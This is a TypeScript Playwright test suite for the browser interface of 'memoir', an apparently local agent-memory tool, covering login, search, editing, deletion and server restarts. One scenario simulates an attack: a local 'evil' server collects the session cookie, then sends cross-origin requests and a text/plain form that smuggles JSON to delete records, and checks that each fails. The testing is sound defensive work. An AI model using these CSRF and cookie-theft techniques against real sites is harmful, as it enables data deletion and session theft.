// The page in a real browser: opened by a code that is good once, searched, read, corrected; attacked; and left alone by its server.
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { assertForEverybody, inBrowser, newAddress, openPage } from "../browser.ts";
import { assertUnharmed } from "../expect.ts";
import type { Memoir } from "../memoir.ts";
import type { Scenario } from "../scenario.ts";
import { until } from "../until.ts";
import type { World } from "../world.ts";
import { fixClosing, fixPrompt, fixSession, shopFiles } from "./shop.ts";

/** memoir, and one session in its memory. */
async function remembered(world: World): Promise<{ memoir: Memoir; session: string }> {
  const memoir = await world.install();
  const shop = await world.project("shop", shopFiles);
  const fixed = await fixSession(shop);
  assertUnharmed(fixed);
  await memoir.settle();
  return { memoir, session: fixed.ids[0] ?? assert.fail("no session") };
}

const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true });
const text = (page: Page, words: string) => page.getByText(words, { exact: false }).first();

async function bugfix(memoir: Memoir, session: string) {
  const { observations } = await memoir.records(session);
  return observations.find(({ type }) => type === "bugfix") ?? assert.fail("no bugfix");
}

export const pageScenarios: Scenario[] = [
  {
    name: "page: opens by a code that stays nowhere; search, session and record by mouse and by keyboard",
    needs: "chromium",
    async run(world) {
      const { memoir, session } = await remembered(world);
      await inBrowser(world, async ({ context, page, complaints }) => {
        const address = await newAddress(memoir);
        const code = new URL(address).hash.slice(1);
        await page.goto(address);
        await page.locator(".hit").first().waitFor();
        assert.ok(!page.url().includes(code));
        const [cookie] = await context.cookies(new URL("/api/search", address).href);
        assert.equal(cookie?.httpOnly && cookie.sameSite, "Strict");
        const inPage = await page.evaluate(() => `${document.cookie} ${history.length}`);
        assert.ok(!inPage.includes(cookie?.value ?? "memoir"));
        for (const [file, content] of await memoir.files())
          for (const secret of [code, cookie?.value ?? ""])
            assert.ok(!content.includes(secret), `${file} holds a secret of the page`);
        await assertForEverybody(page);

        await page.locator("#query").fill("subtracted discount");
        const hit = page
          .locator("a.hit")
          .filter({ has: page.locator("mark") })
          .first();
        await hit.waitFor();
        await until("the words are in the address", () =>
          page.url().includes("q=subtracted+discount"),
        );
        await page.getByText("matches").first().waitFor();
        // The last hit keeps the focus.
        for (let step = 0; step < 9; step++) await page.keyboard.press("ArrowDown");
        const chosen = await page.locator("a.hit:focus").getAttribute("href");
        await page.keyboard.press("Enter");
        await page.waitForURL(`**${chosen}`);
        await page.locator("h1").waitFor();
        await page.goBack();
        await page.waitForURL("**/search?q=subtracted+discount");
        assert.equal(await page.locator("#query").inputValue(), "subtracted discount");
        await page.goto(`${page.url()}&type=bugfix`);
        await page.locator(".kind.bugfix").first().waitFor();
        await until("only bugfixes stand there", async () => {
          const kinds = await page.locator(".hits .kind").allTextContents();
          return kinds.length > 0 && kinds.every((kind) => kind === "bugfix");
        });
        await assertForEverybody(page);

        await page.goto(new URL(`/session/${session}`, address).href);
        for (const words of [fixPrompt, fixClosing, "node --test test/discount.test.js", "bugfix"])
          await text(page, words).waitFor();
        await assertForEverybody(page);
        await page.locator(".made a.kept", { hasText: "bugfix" }).first().click();
        await button(page, "Edit").waitFor();
        await text(page, "In its session").waitFor();
        await assertForEverybody(page);
        await page.keyboard.press("/");
        await page.locator("#query:focus").waitFor();
        await page.goto(new URL("/memory", address).href);
        await page.locator("a.hit").first().waitFor();
        await assertForEverybody(page);
        assert.deepEqual(complaints, []);

        const second = await context.newPage();
        await second.goto(address);
        await text(second, "The code was used before").waitFor();
      });
      await inBrowser(world, async ({ page, complaints }) => {
        const address = await newAddress(memoir);
        await page.goto(new URL("/search", address).href);
        await text(page, "memoir open").waitFor();
        assert.equal(await page.locator(".hit").count(), 0, "without a session nothing is told");
        await page.goto(address);
        await page.locator(".hit").first().waitFor();
        assert.ok(
          complaints.every((one) => one.includes("401")),
          complaints.join("\n"),
        );
      });
    },
  },
  {
    name: "page: edits, pins, hides and deletes as the command line does; two tabs do not write over each other",
    needs: "chromium",
    async run(world) {
      const { memoir, session } = await remembered(world);
      const fix = await bugfix(memoir, session);
      await inBrowser(world, async ({ context, page }) => {
        const origin = await openPage(memoir, page);
        await page.goto(`${origin}/record/${fix.id}`);
        const other = await context.newPage();
        await other.goto(`${origin}/record/${fix.id}`);
        await button(other, "Edit").click();
        await other.getByLabel("Title", { exact: true }).fill("The second tab’s words");

        await button(page, "Edit").click();
        await page
          .getByLabel("Title", { exact: true })
          .fill("Ada wants one discount for each order");
        await assertForEverybody(page);
        await button(page, "Save").click();
        await page.getByRole("heading", { name: "Ada wants one discount" }).waitFor();
        await text(page, "Edited by you").waitFor();
        assert.equal(
          (await bugfix(memoir, session)).title,
          "Ada wants one discount for each order",
        );

        await button(other, "Save").click();
        await text(other, "changed elsewhere in the meantime").waitFor();
        await other.getByRole("alert").getByText("Ada wants one discount").waitFor();
        assert.equal(
          (await bugfix(memoir, session)).title,
          "Ada wants one discount for each order",
        );
        await button(other, "Save mine anyway").click();
        await other.getByRole("heading", { name: "The second tab’s words" }).waitFor();

        await page.reload();
        await button(page, "Undo your edits").click();
        await page.getByRole("heading", { name: fix.title }).waitFor();
        assert.equal((await bugfix(memoir, session)).title, fix.title);

        await button(page, "Pin").click();
        await button(page, "Unpin").waitFor();
        await button(page, "Hide").click();
        await button(page, "Unhide").waitFor();
        const { pinned, hidden } = await bugfix(memoir, session);
        assert.deepEqual([pinned, hidden], [true, true]);

        await button(page, "Delete…").click();
        await page.locator(".going li").first().waitFor();
        await assertForEverybody(page);
        await page.keyboard.press("Escape");
        await page.locator("dialog").waitFor({ state: "detached" });
        assert.equal((await bugfix(memoir, session)).id, fix.id, "nothing went yet");
        await button(page, "Delete…").click();
        await button(page, "Delete permanently").click();
        await text(page, "1 record deleted").waitFor();
        await button(page, "To memory").click();
        await page.locator(".hit").first().waitFor();
        const { observations } = await memoir.records(session);
        assert.ok(observations.every(({ id }) => id !== fix.id));

        // It stands there as it was when it went: pinned.
        await button(other, "Unpin").click();
        await other.getByRole("alert").getByText(`no record ${fix.id}`).waitFor();
      });
    },
  },
  {
    name: "page: its server goes away and comes back; what was typed stays",
    needs: "chromium",
    async run(world) {
      const { memoir, session } = await remembered(world);
      const fix = await bugfix(memoir, session);
      await inBrowser(world, async ({ context, page }) => {
        const { port } = new URL(await openPage(memoir, page));
        await page.goto(`http://127.0.0.1:${port}/record/${fix.id}`);
        await button(page, "Edit").click();
        await page.getByLabel("Title", { exact: true }).fill("Typed before it went");
        await memoir.signal("SIGKILL");
        await button(page, "Save").click();
        await text(page, "server isn’t responding").waitFor();
        const second = await context.newPage();
        await openPage(memoir, second);
        await page
          .getByRole("status")
          .and(page.locator(".connection"))
          .waitFor({ state: "hidden" });
        assert.equal(
          await page.getByLabel("Title", { exact: true }).inputValue(),
          "Typed before it went",
        );
        await button(page, "Save").click();
        await page.getByRole("heading", { name: "Typed before it went" }).waitFor();
        assert.equal((await bugfix(memoir, session)).title, "Typed before it went");
      });
    },
  },
  {
    name: "page: another port's page has the cookie sent along, and gets and changes nothing",
    needs: "chromium",
    async run(world) {
      const { memoir, session } = await remembered(world);
      const fix = await bugfix(memoir, session);
      const cookies: string[] = [];
      const evil = Bun.serve({
        ...{ hostname: "127.0.0.1", port: 0 },
        fetch(request) {
          cookies.push(request.headers.get("cookie") ?? "");
          return new Response("<h1>Another site</h1>", {
            headers: { "content-type": "text/html" },
          });
        },
      });
      try {
        await inBrowser(world, async ({ page }) => {
          const origin = await openPage(memoir, page);
          await page.goto(`http://127.0.0.1:${evil.port}/api/steal`);
          assert.match(cookies.join(" "), /memoir-page-/, "a browser sends it to every port");
          const tries = await page.evaluate(
            async ({ origin, id }) => {
              const outcome = async (path: string, init: RequestInit = {}) => {
                const response = await fetch(origin + path, {
                  credentials: "include",
                  ...init,
                }).catch(() => undefined);
                return response?.type === "opaque" ? "opaque" : response?.status;
              };
              const body = JSON.stringify({ ids: [id] });
              const code = JSON.stringify({ code: "a".repeat(43) });
              const all = [
                await outcome("/api/search"),
                await outcome("/api/search", { mode: "no-cors" }),
                await outcome("/api/forget", { method: "POST", body }),
                await outcome("/api/forget", { method: "POST", body, mode: "no-cors" }),
                await outcome("/api/page/session", { method: "POST", body: code }),
              ];
              const frame = document.createElement("iframe");
              frame.src = `${origin}/search`;
              const loaded = new Promise((done) => frame.addEventListener("load", done));
              document.body.append(frame);
              await loaded;
              const form = document.createElement("form");
              Object.assign(form, { method: "post", action: `${origin}/api/forget` });
              Object.assign(form, { enctype: "text/plain" });
              const field = document.createElement("input");
              Object.assign(field, { name: `{"ids":["${id}"],"x":"`, value: '"}' });
              form.append(field);
              document.body.append(form);
              form.submit();
              return all;
            },
            { origin, id: fix.id },
          );
          assert.deepEqual(
            tries.filter((one) => one !== undefined && one !== "opaque"),
            [],
          );
          await page.waitForURL("**/api/forget");
          await text(page, "access_refused").waitFor();
          const stolen = cookies.find((one) => one.includes("memoir-page-")) ?? "";
          const asServer = await fetch(`${origin}/api/search`, {
            headers: { cookie: stolen, "sec-fetch-site": "same-origin" },
          });
          assert.equal(asServer.status, 401, "the cookie alone is half a session");
        });
      } finally {
        await evil.stop(true);
      }
      assert.equal((await bugfix(memoir, session)).id, fix.id);
    },
  },
  {
    name: "page: an empty memory explains itself",
    needs: "chromium",
    async run(world) {
      const memoir = await world.install();
      await inBrowser(world, async ({ page, complaints }) => {
        const origin = await openPage(memoir, page);
        await text(page, "Nothing here yet").waitFor();
        await assertForEverybody(page);
        await page.goto(`${origin}/memory`);
        await text(page, "Nothing here yet").waitFor();
        await page.goto(`${origin}/decisions`);
        await text(page, "No decisions yet").waitFor();
        await assertForEverybody(page);
        await page.goto(`${origin}/context`);
        await text(page, "After your first session with an agent").waitFor();
        await assertForEverybody(page);
        await page.goto(`${origin}/search?q=anything`);
        await text(page, "Nothing matches").waitFor();
        assert.deepEqual(complaints, []);
        await page.goto(`${origin}/nothing/there`);
        await text(page, "There is no page here").waitFor();
        await assertForEverybody(page);
        await page.goto(`${origin}/record/o999`);
        await page.getByRole("alert").waitFor();
      });
    },
  },
];
